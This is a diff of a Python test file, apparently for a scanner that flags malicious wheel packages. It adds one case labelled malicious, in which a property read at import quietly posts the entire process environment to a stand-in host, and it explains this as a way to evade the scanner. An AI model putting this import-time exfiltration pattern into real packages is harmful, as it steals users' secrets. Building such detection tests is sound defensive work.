@@ -346,6 +346,19 @@ CASES = [
                              "        return urllib.request.urlopen(req).read()\n\n\n"
                              "client = Client()\nAUTHENTICATED = bool(client.token)\n"),
            "benign"),
+    # The cheapest evasion of not reading `os.environ.get(...)` as a call of a method `get`:
+    # the property read at import calls that method itself, through `self`.
+    _wheel("property read at import calls its own method that posts the environment",
+           "propsend", _init(
+               "propsend", "import os, urllib.request\n\n\nclass Client:\n"
+                           "    @property\n    def ready(self):\n"
+                           "        self.get(os.environ.get('HOME', ''))\n"
+                           "        return True\n\n"
+                           "    def get(self, _):\n"
+                           "        body = repr(dict(os.environ)).encode()\n"
+                           "        urllib.request.urlopen('http://collect.invalid/e', body)\n\n\n"
+                           "client = Client()\nREADY = client.ready\n"),
+           "malicious"),
     _wheel("namespace __path__ extended to a contrib folder of plain code", "pluginpath", {
         "pluginpath/__init__.py": (
             "import os, pkgutil\n__path__ = pkgutil.extend_path(__path__, __name__)\n"
